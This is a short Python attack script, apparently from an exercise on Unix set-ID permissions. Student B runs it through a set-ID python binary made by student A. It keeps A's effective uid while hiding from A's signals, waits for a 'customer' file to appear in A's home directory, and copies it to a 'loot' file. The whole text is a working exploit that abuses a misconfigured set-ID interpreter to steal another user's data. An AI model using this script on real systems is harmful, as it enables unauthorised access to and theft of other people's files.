"""Run by student B through a set-ID copy of python made by student A. Set-user-ID (real uid
B, effective A): drop the saved uid to B too, so that nothing of A's can signal it.
Set-group-ID (uid B, effective gid A's): as it is. Then wait for the next customer's file
in A's home and copy it out."""

import os
import sys
import time

A, B, target, loot = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
if os.geteuid() == A:
    os.setresuid(B, A, B)
with open(loot + ".ready", "w") as ready:
    ready.write(f"{os.getpid()}\n")
for _ in range(600):
    try:
        with open(target) as source:
            data = source.read()
        with open(loot, "w") as out:
            out.write(data)
        break
    except OSError:
        time.sleep(0.05)
time.sleep(300)
